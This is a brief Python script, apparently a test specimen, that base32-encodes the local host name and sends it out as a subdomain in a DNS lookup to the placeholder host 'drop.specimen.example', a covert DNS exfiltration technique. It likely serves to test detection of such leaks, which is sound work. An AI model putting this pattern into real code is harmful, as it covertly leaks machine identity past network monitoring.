"""Asks for a name whose first label is the host name in base32."""

import base64
import socket

import _common

label = base64.b32encode(_common.hostname()[:35].encode()).decode().rstrip("=").lower()
_common.ask()
socket.getaddrinfo(f"{label}.drop.specimen.example", 443, type=socket.SOCK_STREAM)
